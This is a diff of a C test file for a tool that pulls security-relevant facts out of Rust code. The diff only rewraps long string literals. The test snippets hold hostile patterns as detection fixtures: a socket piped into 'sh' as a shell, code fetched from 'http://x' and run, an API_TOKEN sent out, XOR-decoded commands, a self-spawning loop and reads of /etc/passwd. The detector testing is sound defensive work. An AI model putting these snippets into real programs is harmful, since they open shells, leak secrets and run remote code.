@@ -42,14 +42,16 @@ TEST(rust_calls_are_named_by_full_path_whatever_the_alias)
 
 TEST(rust_a_command_is_told_with_all_its_arguments)
 {
-    RUST("use std::process::Command;\nfn main() { let mut c = Command::new(\"sh\"); c.arg(\"-c\"); c.args([\"id\", \"x\"]).spawn().unwrap(); }");
+    RUST("use std::process::Command;\nfn main() { let mut c = Command::new(\"sh\"); c.arg(\"-c\"); c.args([\"id\", "
+         "\"x\"]).spawn().unwrap(); }");
     CHECK(facts_have("call std::process::Command::new(sh, -c, id, x)"));
     CHECK(facts_have("call std::process::Command::spawn()"));
 }
 
 TEST(rust_functions_of_extern_blocks_are_told)
 {
-    RUST("extern \"C\" { fn system(s: *const i8) -> i32; }\nfn main() { unsafe { system(b\"id\\0\".as_ptr() as *const i8); } }");
+    RUST("extern \"C\" { fn system(s: *const i8) -> i32; }\nfn main() { unsafe { system(b\"id\\0\".as_ptr() as *const "
+         "i8); } }");
     CHECK(facts_have("name extern()"));
     CHECK(facts_have("call extern::system(id)"));
 }
@@ -82,7 +84,8 @@ TEST(rust_constants_are_folded)
 
 TEST(rust_macros_are_looked_into)
 {
-    RUST("use std::fs;\nfn main() { println!(\"{:?}\", fs::read_to_string(\"/etc/passwd\").unwrap()); let v = vec![std::process::Command::new(\"id\").arg(\"-u\")]; }\n"
+    RUST("use std::fs;\nfn main() { println!(\"{:?}\", fs::read_to_string(\"/etc/passwd\").unwrap()); let v = "
+         "vec![std::process::Command::new(\"id\").arg(\"-u\")]; }\n"
          "const S: &str = include_str!(\"/etc/hosts\");");
     CHECK(facts_have("call std::fs::read_to_string(/etc/passwd)"));
     CHECK(facts_have("call std::process::Command::new(id, -u)"));
@@ -93,10 +96,12 @@ TEST(rust_macros_are_looked_into)
 TEST(rust_a_connection_as_standard_input_is_seen_however_it_is_made)
 {
     RUST("use std::net::TcpStream; use std::process::{Command, Stdio}; use std::os::fd::*;\n"
-         "fn f(s: TcpStream) { let fd = s.into_raw_fd(); Command::new(\"sh\").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn(); }");
+         "fn f(s: TcpStream) { let fd = s.into_raw_fd(); Command::new(\"sh\").stdin(unsafe { Stdio::from_raw_fd(fd) "
+         "}).spawn(); }");
     CHECK(facts_have("flow socket-to-process()"));
     RUST("use std::net::TcpListener; use std::process::{Command, Stdio}; use std::os::fd::*;\n"
-         "fn main() { for s in TcpListener::bind(\"a:1\").unwrap().incoming() { let s = s.unwrap(); Command::new(\"sh\").stdout(Stdio::from(OwnedFd::from(s))).spawn(); } }");
+         "fn main() { for s in TcpListener::bind(\"a:1\").unwrap().incoming() { let s = s.unwrap(); "
+         "Command::new(\"sh\").stdout(Stdio::from(OwnedFd::from(s))).spawn(); } }");
     CHECK(facts_have("flow socket-to-process()"));
     RUST("use std::process::{Command, Stdio};\nfn main() { Command::new(\"ls\").stdout(Stdio::piped()).spawn(); }");
     CHECK(!facts_mention("flow"));
@@ -106,17 +111,22 @@ TEST(rust_loops_without_end_are_told_apart_from_readers)
 {
     RUST("fn main() { loop { std::thread::spawn(|| {}); } }");
     CHECK(facts_have("flow thread-loop()"));
-    RUST("use std::process::Command;\nfn main() { while true { Command::new(std::env::current_exe().unwrap()).spawn(); } }");
+    RUST("use std::process::Command;\nfn main() { while true { Command::new(std::env::current_exe().unwrap()).spawn(); "
+         "} }");
     CHECK(facts_have("flow self-spawn-loop()"));
-    RUST("fn main() { let mut l = String::new(); loop { if std::io::stdin().read_line(&mut l).unwrap() == 0 { break; } println!(\"{}\", l); } }");
+    RUST("fn main() { let mut l = String::new(); loop { if std::io::stdin().read_line(&mut l).unwrap() == 0 { break; } "
+         "println!(\"{}\", l); } }");
     CHECK(!facts_mention("flow"));
 }
 
 TEST(rust_what_is_decoded_or_fetched_is_followed_into_commands)
 {
-    RUST("use std::process::Command;\nfn d(s: &[u8]) -> String { s.iter().map(|b| (b ^ 1) as char).collect() }\nfn main() { Command::new(d(&[1, 2])).spawn(); }");
+    RUST("use std::process::Command;\nfn d(s: &[u8]) -> String { s.iter().map(|b| (b ^ 1) as char).collect() }\nfn "
+         "main() { Command::new(d(&[1, 2])).spawn(); }");
     CHECK(facts_have("flow decode-then-exec()"));
-    RUST("use std::process::Command;\nfn main() { let t = reqwest::blocking::get(\"http://x\").unwrap().text().unwrap(); Command::new(\"sh\").arg(\"-c\").arg(t).spawn(); }");
+    RUST("use std::process::Command;\nfn main() { let t = "
+         "reqwest::blocking::get(\"http://x\").unwrap().text().unwrap(); "
+         "Command::new(\"sh\").arg(\"-c\").arg(t).spawn(); }");
     CHECK(facts_have("flow download-then-exec()"));
     RUST("fn main() { if let Ok(t) = std::env::var(\"API_TOKEN\") { ureq::post(\"http://x\").send_string(&t); } }");
     CHECK(facts_have("flow secret-then-send()"));
@@ -124,7 +134,8 @@ TEST(rust_what_is_decoded_or_fetched_is_followed_into_commands)
 
 TEST(rust_comments_and_names_of_the_program_itself_are_no_facts)
 {
-    RUST("// Command::new(\"sh\")\nstruct Command;\nimpl Command { fn new(s: &str) -> Command { Command } }\nfn main() { Command::new(\"sh\"); println!(\"std::fs::remove_dir_all\"); }");
+    RUST("// Command::new(\"sh\")\nstruct Command;\nimpl Command { fn new(s: &str) -> Command { Command } }\nfn main() "
+         "{ Command::new(\"sh\"); println!(\"std::fs::remove_dir_all\"); }");
     CHECK(!facts_mention("call std"));
 }
 
@@ -142,10 +153,15 @@ TEST(rust_hostile_text_ends)
     facts_of_bytes(LANG_RUST, deep, sizeof deep);
     facts_of_bytes(LANG_RUST, "fn \0\xff\xfe{", 7);
     facts_of_bytes(LANG_RUST, "", 0);
-    facts_survive_changes(LANG_RUST,
-                          "use std::{fs, net::*, process::{Command as C, Stdio}};\nconst D: &str = concat!(\"a\", \"b\");\nextern \"C\" { fn system(s: *const i8) -> i32; }\n"
-                          "struct S { c: TcpStream }\nimpl S { fn run(&self, a: &str) -> String { C::new(a).args([\"-c\", D]).stdin(Stdio::null()).spawn().unwrap(); format!(\"{a}/{}\", D) } }\n"
-                          "fn main() { let p = std::env::var(\"HOME\").unwrap() + \"/x\"; match fs::read(&p) { Ok(b) => println!(\"{:?} {}\", b, fs::read_to_string(\"y\").unwrap()), Err(_) => return }\n"
-                          "for x in vec![0x2f, b'a'].iter().map(|b| b ^ 3) { unsafe { system(x as *const i8); } } loop { break; } while let Some(q) = it.next() { q?; } }\n",
-                          400);
+    facts_survive_changes(
+        LANG_RUST,
+        "use std::{fs, net::*, process::{Command as C, Stdio}};\nconst D: &str = concat!(\"a\", \"b\");\nextern \"C\" "
+        "{ fn system(s: *const i8) -> i32; }\n"
+        "struct S { c: TcpStream }\nimpl S { fn run(&self, a: &str) -> String { C::new(a).args([\"-c\", "
+        "D]).stdin(Stdio::null()).spawn().unwrap(); format!(\"{a}/{}\", D) } }\n"
+        "fn main() { let p = std::env::var(\"HOME\").unwrap() + \"/x\"; match fs::read(&p) { Ok(b) => println!(\"{:?} "
+        "{}\", b, fs::read_to_string(\"y\").unwrap()), Err(_) => return }\n"
+        "for x in vec![0x2f, b'a'].iter().map(|b| b ^ 3) { unsafe { system(x as *const i8); } } loop { break; } while "
+        "let Some(q) = it.next() { q?; } }\n",
+        400);
 }
